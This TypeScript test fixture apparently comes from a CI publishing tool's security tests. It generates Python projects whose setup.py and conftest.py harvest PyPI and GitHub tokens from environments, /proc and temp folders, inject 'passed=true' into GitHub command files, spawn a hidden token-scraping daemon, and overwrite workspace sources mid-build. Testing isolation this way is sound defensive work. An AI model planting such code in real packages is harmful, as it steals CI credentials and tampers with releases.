import { execFileSync } from 'node:child_process';
import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

/** Where a hostile project hunts. */
export interface Hunt {
  /** The file it writes what it finds into; absolute. */
  readonly loot: string;
  /** It writes to command files below this folder only; absolute. */
  readonly territory: string;
}

/**
 * The hunt: Python code that looks for secrets everywhere that code of a project can look, writes what it finds into
 * `loot`, tries to speak to the runner through its command files, and leaves a daemon behind that goes on hunting.
 */
function hunter({ loot, territory }: Hunt, where: string): string {
  return `
import glob, os, re, subprocess, sys, time

LOOT = ${JSON.stringify(loot)}
SECRET = re.compile(rb"pypi-[A-Za-z0-9_-]{20,}|INPUT_[A-Z-]*TOKEN=[^\\0]{8,}|ghs_[A-Za-z0-9]{10,}|eyJ[A-Za-z0-9_-]{20,}|w1thheld-[a-z-]+")
COMMAND_FILE = re.compile(rb"GITHUB_(?:OUTPUT|ENV|PATH|STATE|STEP_SUMMARY)=([^\\0]+)")

def note(kind, text):
    with open(LOOT, "ab") as file:
        file.write(kind.encode() + b" in ${where}: " + text[:300] + b"\\n")

def look(kind, data):
    for match in SECRET.finditer(data):
        note(kind, match.group(0))
    for match in COMMAND_FILE.finditer(data):
        # Other tests run at the same time; their files are left alone
        if not match.group(1).startswith(${JSON.stringify(territory)}.encode()):
            continue
        try:
            with open(match.group(1), "ab") as file:
                file.write(b"\\npassed=true\\n")
            note("command file", match.group(1))
        except OSError:
            pass

def read(path, limit=1 << 20):
    try:
        with open(path, "rb") as file:
            return file.read(limit)
    except OSError:
        return b""

def hunt():
    look("environment", b"\\0".join(k + b"=" + v for k, v in os.environb.items()))
    me = {str(os.getpid())}
    for path in glob.glob("/proc/[0-9]*"):
        if os.path.basename(path) in me:
            continue
        look(path + "/environ", read(path + "/environ"))
        look(path + "/cmdline", read(path + "/cmdline"))
    for folder in {os.environ.get("TMPDIR", "/tmp"), os.environ.get("RUNNER_TEMP", "/tmp"), os.getcwd(), os.path.expanduser("~")}:
        for root, folders, files in os.walk(folder):
            if root.count(os.sep) - folder.count(os.sep) > 3:
                folders[:] = []
            for name in files:
                path = os.path.join(root, name)
                if path == LOOT or name.endswith((".py", ".pyc", ".whl", ".gz", ".so", ".ts", ".js")):
                    continue
                try:
                    if os.path.getsize(path) > 200_000 or os.path.getmtime(path) < time.time() - 600:
                        continue
                except OSError:
                    continue
                look(path, read(path))

def hide():
    """A daemon: its own session, no parent, no environment, no open file of the step."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    code = open(__file__).read() if "__file__" in globals() else ""
    null = os.open(os.devnull, os.O_RDWR)
    for fd in range(3):
        os.dup2(null, fd)
    os.execve(sys.executable, [sys.executable, "-c", "HOSTILE_DAEMON = 1\\n" + DAEMON], {})

DAEMON = '''
import glob, re, time
SECRET = re.compile(rb"pypi-[A-Za-z0-9_-]{20,}")
end = time.time() + 60
while time.time() < end:
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            data = open(path, "rb").read()
        except OSError:
            continue
        for match in SECRET.finditer(data):
            with open(${JSON.stringify(loot)}, "ab") as file:
                file.write(b"daemon from ${where}: " + path.encode() + b" " + match.group(0)[:100] + b"\\\\n")
    time.sleep(0.05)
'''

note("was here", b"${where}")
hunt()
hide()
`;
}

/** Writes a project whose build, tests and daemons hunt for secrets. */
export async function writeHostileProject(folder: string, hunt: Hunt): Promise<void> {
  const write = async (path: string, text: string): Promise<void> => {
    await mkdir(join(folder, path, '..'), { recursive: true });
    await writeFile(join(folder, path), text);
  };
  await write(
    'pyproject.toml',
    [
      '[build-system]',
      'requires = ["setuptools>=77"]',
      'build-backend = "setuptools.build_meta"',
      '[project]',
      'name = "hostile"',
      'version = "1.0.0"',
      'description = "Hunts for secrets"',
      'readme = "README.md"',
      'requires-python = ">=3.10"',
      'license = "MIT"',
      '[project.optional-dependencies]',
      'dev = ["pytest"]',
      '[project.scripts]',
      'hostile = "hostile:main"',
      '[tool.setuptools]',
      'packages = ["hostile"]',
      '[tool.pytest.ini_options]',
      'testpaths = ["tests"]',
    ].join('\n'),
  );
  await write('README.md', '# hostile\n');
  await write('LICENSE', 'MIT\n');
  await write('setup.py', `${hunter(hunt, 'setup.py')}\nfrom setuptools import setup\nsetup()\n`);
  await write('tests/conftest.py', hunter(hunt, 'conftest.py'));
  await write('tests/test_hostile.py', 'import hostile\n\ndef test_it():\n    assert hostile.main() is None\n');
  await write('hostile/__init__.py', 'def main():\n    """Does nothing."""\n');
  await write('hostile/__main__.py', 'from hostile import main\nmain()\n');
  const git = (...args: readonly string[]): void => {
    execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@localhost', ...args], {
      cwd: folder,
      stdio: 'ignore',
    });
  };
  git('init', '--quiet');
  git('add', '--all');
  git('commit', '--quiet', '-m', 'hostile');
  git('tag', 'v1.0.0');
  await chmod(folder, 0o755);
}

/** What the hunters wrote down; empty when they never ran. */
export async function readLoot(loot: string): Promise<readonly string[]> {
  const text = await readFile(loot, 'utf8').catch(() => '');
  return text.split('\n').filter((line) => line !== '');
}

/** Processes of this machine that are daemons of a hostile project. */
export function hostileDaemons(): readonly string[] {
  const listed = execFileSync('ps', ['-eo', 'pid,args'], { encoding: 'utf8', maxBuffer: 1 << 24 });
  return listed.split('\n').filter((line) => line.includes('HOSTILE_DAEMON'));
}

/** What a meddling project writes its marks into; absolute. */
export interface Meddling {
  /** The workspace that it writes to. */
  readonly workspace: string;
  /** A folder for its marks. */
  readonly marks: string;
}

/**
 * Writes a project whose tests write over its sources and its changelog in the workspace while it is built: the build
 * waits until they have done it, before it packs anything.
 */
export async function writeMeddlingProject(folder: string, { workspace, marks }: Meddling): Promise<void> {
  await writeHostileProject(folder, { loot: join(marks, 'loot'), territory: marks });
  const head = `import pathlib, time
MARKS = pathlib.Path(${JSON.stringify(marks)})
WORKSPACE = pathlib.Path(${JSON.stringify(workspace)})

def wait_for(name):
    end = time.monotonic() + 100
    while not (MARKS / name).exists() and time.monotonic() < end:
        time.sleep(0.02)
`;
  await writeFile(
    join(folder, 'setup.py'),
    `import sys\n${head}
if "sdist" in sys.argv:
    (MARKS / "building").touch()
    wait_for("written")
from setuptools import setup
setup()
`,
  );
  await writeFile(
    join(folder, 'tests/conftest.py'),
    `${head}
wait_for("building")
(WORKSPACE / "hostile/__init__.py").write_text("EVIL = 1\\ndef main():\\n    pass\\n")
(WORKSPACE / "hostile/evil.py").write_text("EVIL = 1\\n")
(WORKSPACE / "README.md").write_text("evil\\n")
(MARKS / "written").touch()
`,
  );
  for (const args of [
    ['add', '--all'],
    ['commit', '--quiet', '--amend', '--no-edit'],
    ['tag', '--force', 'v1.0.0'],
  ])
    execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@localhost', ...args], {
      cwd: folder,
      stdio: 'ignore',
    });
}
